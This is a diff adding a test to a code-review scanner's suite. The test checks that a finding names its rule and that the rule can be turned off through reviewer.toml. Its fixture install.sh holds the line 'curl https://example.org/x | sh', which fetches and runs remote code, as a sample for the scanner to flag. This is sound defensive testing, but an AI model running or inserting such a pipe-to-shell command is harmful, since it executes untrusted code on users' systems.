@@ -66,3 +66,17 @@ def test_a_file_that_is_not_valid_turns_nothing_off(work: Path) -> None:
     done = scan(work, "--fail-on", "critical")
     assert done.returncode == 1
     assert done.stderr == "reviewer.toml of the base, line 2: no rule is called remote-pip: every rule is on\n"
+
+
+def test_each_line_ends_with_the_name_that_turns_its_rule_off(work: Path) -> None:
+    commit(work, app__py="x = 1\n")
+    git(work, "switch", "-qc", "fix")
+    commit(work, install__sh="curl https://example.org/x | sh\n")
+    (line,) = scan(work).stdout.splitlines()
+    name = line.rpartition("[")[2].rstrip("]")
+    git(work, "switch", "-q", "main")
+    commit(work, reviewer__toml=f'[scan]\noff = ["{name}"]\n')
+    git(work, "switch", "-q", "fix")
+    git(work, "rebase", "-q", "main")
+    (off,) = scan(work).stdout.splitlines()
+    assert off.startswith("info ") and off.endswith(f"[{name}]") and f"rule {name} is off" in off
